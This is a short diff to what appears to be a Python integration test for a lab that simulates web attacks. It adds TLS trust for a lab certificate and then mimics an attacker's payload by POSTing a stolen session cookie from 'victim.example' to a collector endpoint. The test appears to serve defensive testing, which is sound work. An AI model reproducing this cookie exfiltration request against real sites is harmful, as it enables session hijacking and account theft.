@@ -4,6 +4,7 @@ import json
 import os
 import re
 import signal
+import ssl
 import subprocess
 import sys
 from pathlib import Path
@@ -213,7 +214,8 @@ async def test_scenarios_loot_and_strips_over_the_api(lab):
     assert strips[0]["trace"] == trace and strips[0]["verdict"] == "MISROUTED"
 
     collector = lab.world.origin_by_name["collector"].url
-    async with aiohttp.ClientSession() as s:  # what the attacker's payload sends
+    trust = ssl.create_default_context(cafile=str(lab.ca.cert_path))  # the collector is https, a lab certificate
+    async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(ssl=trust)) as s:  # what the payload sends
         await s.post(collector + "/collect", data=json.dumps({"cookie": "session=alice-1234", "origin":
                                                               "https://www.victim.example:8443", "href": "x"}),
                      headers={"Origin": "https://www.victim.example:8443"})
